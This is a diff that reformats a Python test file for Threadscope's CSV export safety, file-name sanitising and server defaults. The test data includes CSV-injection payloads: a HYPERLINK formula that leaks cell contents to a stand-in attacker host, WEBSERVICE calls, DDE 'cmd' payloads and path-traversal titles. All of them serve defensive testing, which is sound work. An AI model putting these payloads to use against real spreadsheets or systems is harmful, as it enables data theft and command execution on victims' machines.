@@ -1,6 +1,7 @@
 """analytics.model.safety and the exports that use it: no spreadsheet formula leaves Threadscope in a
 CSV cell, JSON and Parquet keep the raw text, file names built from titles stay in their folder,
 and the server's defaults (bind address, upload limit) are set."""
+
 from __future__ import annotations
 
 import csv
@@ -29,10 +30,31 @@ from analytics.views.filters import Filters
 ROOT = Path(__file__).resolve().parents[2]
 TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\x00"]
 # Payloads from the CSV-injection literature, one per trigger and then some.
-PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\x00=1+1",
-            "=1+1", "+1+1", "-1+1", "@geha you are wrong", "- a list item", "--", "=", "@", "+",
-            "  =1+1", "\n=1+1", " \n @SUM(A1)", "'=1+1", "''-x", "=WEBSERVICE(\"http://evil.example\")"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\x00=1+1",
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@geha you are wrong",
+    "- a list item",
+    "--",
+    "=",
+    "@",
+    "+",
+    "  =1+1",
+    "\n=1+1",
+    " \n @SUM(A1)",
+    "'=1+1",
+    "''-x",
+    '=WEBSERVICE("http://evil.example")',
+]
 
 
 def _cells(raw: bytes) -> list[list[str]]:
@@ -48,6 +70,7 @@ def _spreadsheet_would_run(cell: str) -> bool:
 
 # --- the rule, cell by cell ------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("trigger", TRIGGERS)
 def test_every_trigger_gets_an_apostrophe(trigger):
     for value in (trigger, trigger + "1+1", trigger + "cmd|' /C calc'!A0", " " + trigger + "x", "\n" + trigger):
@@ -62,8 +85,23 @@ def test_plain_numbers_in_text_stay_numbers(value):
     assert not safety.is_dangerous(value)
 
 
-@pytest.mark.parametrize("value", ["hello", "a=b", "1+1", "[\"geha\"]", "2013-02-20T18:18:00", "", "'tis",
-                                   "ليلى", "e-mail", "x@y", "-0.5 points", "- 3"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "hello",
+        "a=b",
+        "1+1",
+        '["geha"]',
+        "2013-02-20T18:18:00",
+        "",
+        "'tis",
+        "ليلى",
+        "e-mail",
+        "x@y",
+        "-0.5 points",
+        "- 3",
+    ],
+)
 def test_harmless_text_is_unchanged(value):
     expected = "'" + value if value in ("-0.5 points", "- 3") else value
     assert safety.neutralise_cell(value) == expected
@@ -81,8 +119,10 @@ def test_apostrophes_before_a_trigger_get_one_more_so_the_change_can_be_undone()
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r\x00 \n0123456789.eE") + ["a", "ل", "\u202e"]), max_size=8)
-       | st.text(max_size=20))
+@given(
+    st.text(alphabet=st.sampled_from(list("'=+-@\t\r\x00 \n0123456789.eE") + ["a", "ل", "\u202e"]), max_size=8)
+    | st.text(max_size=20)
+)
 @example("-0\n")  # found by Hypothesis: a number followed by a line feed is not a plain number
 @example("+1e5\n")
 def test_restore_undoes_neutralise_and_nothing_dangerous_remains(text):
@@ -99,24 +139,28 @@ def test_restore_undoes_neutralise_and_nothing_dangerous_remains(text):
 
 # --- frames and CSV files --------------------------------------------------------------------------
 
+
 def _hostile_frame() -> pd.DataFrame:
     n = len(PAYLOADS)
-    return pd.DataFrame({
-        "author": pd.Series(PAYLOADS, dtype="str"),
-        "text": pd.Series(PAYLOADS[::-1], dtype=object),
-        "polarity": [-0.5 + k / n for k in range(n)],
-        "n_words": pd.Series([-k for k in range(n)], dtype="Int64"),
-        "timestamp": pd.to_datetime(["2013-02-20 18:18"] * (n - 1) + [None]),
-        "mentions": [["=evil", "geha"]] * n,
-        "label": pd.Categorical(["=neg", "pos"] * (n // 2) + ["pos"] * (n % 2)),
-    })
+    return pd.DataFrame(
+        {
+            "author": pd.Series(PAYLOADS, dtype="str"),
+            "text": pd.Series(PAYLOADS[::-1], dtype=object),
+            "polarity": [-0.5 + k / n for k in range(n)],
+            "n_words": pd.Series([-k for k in range(n)], dtype="Int64"),
+            "timestamp": pd.to_datetime(["2013-02-20 18:18"] * (n - 1) + [None]),
+            "mentions": [["=evil", "geha"]] * n,
+            "label": pd.Categorical(["=neg", "pos"] * (n // 2) + ["pos"] * (n % 2)),
+        }
+    )
 
 
 def test_table_for_csv_marks_text_and_keeps_numbers_timestamps_and_lists():
     frame = _hostile_frame()
     out = table_for_csv(frame)
-    assert out["author"].tolist() == [("'" + p) if _spreadsheet_would_run(p) or p.startswith("'") else p
-                                      for p in PAYLOADS]
+    assert out["author"].tolist() == [
+        ("'" + p) if _spreadsheet_would_run(p) or p.startswith("'") else p for p in PAYLOADS
+    ]
     assert out["polarity"].tolist() == frame["polarity"].tolist() and out["polarity"].dtype == "float64"
     assert out["n_words"].tolist() == frame["n_words"].tolist()
     assert out["timestamp"].iloc[0] == "2013-02-20T18:18:00" and pd.isna(out["timestamp"].iloc[-1])
@@ -127,14 +171,14 @@ def test_table_for_csv_marks_text_and_keeps_numbers_timestamps_and_lists():
 
 @pytest.mark.parametrize("writer", ["bundle.table_csv", "export.write_tables"])
 def test_no_cell_of_a_csv_export_would_run(writer, tmp_path):
-    frame = _hostile_frame().rename(columns={"author": "=HYPERLINK(\"x\")"})
+    frame = _hostile_frame().rename(columns={"author": '=HYPERLINK("x")'})
     if writer == "bundle.table_csv":
         raw = bundle.table_csv(frame)
     else:
         raw = write_tables({"hostile": frame}, tmp_path)[0].read_bytes()
     rows = _cells(raw)
     assert len(rows) == len(frame) + 1  # no payload broke a row apart
-    assert rows[0][0] == "'=HYPERLINK(\"x\")"
+    assert rows[0][0] == '\'=HYPERLINK("x")'
     for row in rows:
         for cell in row:
             assert not _spreadsheet_would_run(cell), (writer, cell)
@@ -169,19 +213,26 @@ def test_threadscope_export_loads_back_byte_for_byte(tmp_path):
     # NUL included: a CSV with a stray NUL in a comment is text, not binary data.
     assert any("\x00" in p for p in PAYLOADS)
     rows = [{"author": p, "text": p, "timestamp": "2013-02-20 18:00"} for p in PAYLOADS]
-    articles, comments = make_thread(rows, title="=HYPERLINK(\"http://evil.example\")", body="@body -1")
+    articles, comments = make_thread(rows, title='=HYPERLINK("http://evil.example")', body="@body -1")
     export_corpus(Corpus(articles, comments, LoadReport()), tmp_path)
     raw = (tmp_path / "comments.csv").read_bytes()
     assert all(not _spreadsheet_would_run(cell) for row in _cells(raw) for cell in row)
     back = analytics.load(tmp_path)
     pd.testing.assert_frame_equal(back.comments, comments, check_dtype=False)
-    pd.testing.assert_frame_equal(back.articles.drop(columns="source"), articles.drop(columns="source"),
-                                  check_dtype=False)
+    pd.testing.assert_frame_equal(
+        back.articles.drop(columns="source"), articles.drop(columns="source"), check_dtype=False
+    )
 
 
 def test_report_zip_tables_hold_no_formula():
-    rows = [{"author": p if p.strip("\x00") else "x", "text": f"{p} is a terrible idea", "timestamp": f"2013-02-20 18:{k:02d}"}
-            for k, p in enumerate(PAYLOADS)]
+    rows = [
+        {
+            "author": p if p.strip("\x00") else "x",
+            "text": f"{p} is a terrible idea",
+            "timestamp": f"2013-02-20 18:{k:02d}",
+        }
+        for k, p in enumerate(PAYLOADS)
+    ]
     articles, comments = make_thread(rows, title="=cmd|' /C calc'!A0")
     analysis = enrich(Corpus(articles, comments, LoadReport()))
     raw = bundle.build_report(analysis, Filters(), images=False)
@@ -196,19 +247,28 @@ def test_report_zip_tables_hold_no_formula():
 
 # --- file names --------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("title, expected", [
-    ("../../etc/passwd", "etc-passwd.csv"),
-    ("..\\..\\Windows\\win.ini", "Windows-win.ini.csv"),
-    ("Lavrov Warns Syria Rivals", "Lavrov-Warns-Syria-Rivals.csv"),
-    ("invoice\u202efdp.exe", "invoice-fdp.exe.csv"),  # right-to-left override
-    ("zero\u200bwidth", "zero-width.csv"),
-    ("<script>alert(1)</script>", "script-alert-1-script.csv"),
-    ("a:b*c?d\"e<f>g|h", "a-b-c-d-e-f-g-h.csv"),
-    ("CON", "_CON.csv"), ("nul.txt", "_nul.txt.csv"), ("LPT9", "_LPT9.csv"),
-    (".hidden", "hidden.csv"), ("...", "threadscope.csv"), ("", "threadscope.csv"), (None, "threadscope.csv"),
-    ("ﬁle", "file.csv"),  # NFKC
-    ("لافروف يحذر", "لافروف-يحذر.csv"),
-])
+
+@pytest.mark.parametrize(
+    "title, expected",
+    [
+        ("../../etc/passwd", "etc-passwd.csv"),
+        ("..\\..\\Windows\\win.ini", "Windows-win.ini.csv"),
+        ("Lavrov Warns Syria Rivals", "Lavrov-Warns-Syria-Rivals.csv"),
+        ("invoice\u202efdp.exe", "invoice-fdp.exe.csv"),  # right-to-left override
+        ("zero\u200bwidth", "zero-width.csv"),
+        ("<script>alert(1)</script>", "script-alert-1-script.csv"),
+        ('a:b*c?d"e<f>g|h', "a-b-c-d-e-f-g-h.csv"),
+        ("CON", "_CON.csv"),
+        ("nul.txt", "_nul.txt.csv"),
+        ("LPT9", "_LPT9.csv"),
+        (".hidden", "hidden.csv"),
+        ("...", "threadscope.csv"),
+        ("", "threadscope.csv"),
+        (None, "threadscope.csv"),
+        ("ﬁle", "file.csv"),  # NFKC
+        ("لافروف يحذر", "لافروف-يحذر.csv"),
+    ],
+)
 def test_safe_file_name(title, expected):
     assert safety.safe_file_name(title, suffix=".csv") == expected
 
@@ -236,13 +296,14 @@ def test_safe_file_name_always_stays_in_its_folder(title, max_bytes):
     name = safety.safe_file_name(title, suffix=".csv", max_bytes=max_bytes)
     stem = name[:-4]
     assert stem and not stem.startswith(".") and stem not in (".", "..")
-    assert not any(c in name for c in "/\\:*?\"<>|\x00")
+    assert not any(c in name for c in '/\\:*?"<>|\x00')
     assert not any(unicodedata.category(c)[0] in "CZ" for c in name)
     assert len(stem.encode("utf-8")) <= max(max_bytes, len("threadscope")) + 1  # "_" before a device name
     assert (Path("/out") / name).parent == Path("/out")
 
 
 # --- server defaults ------------------------------------------------------------------------------------
+
 
 def _config() -> dict:
     return tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
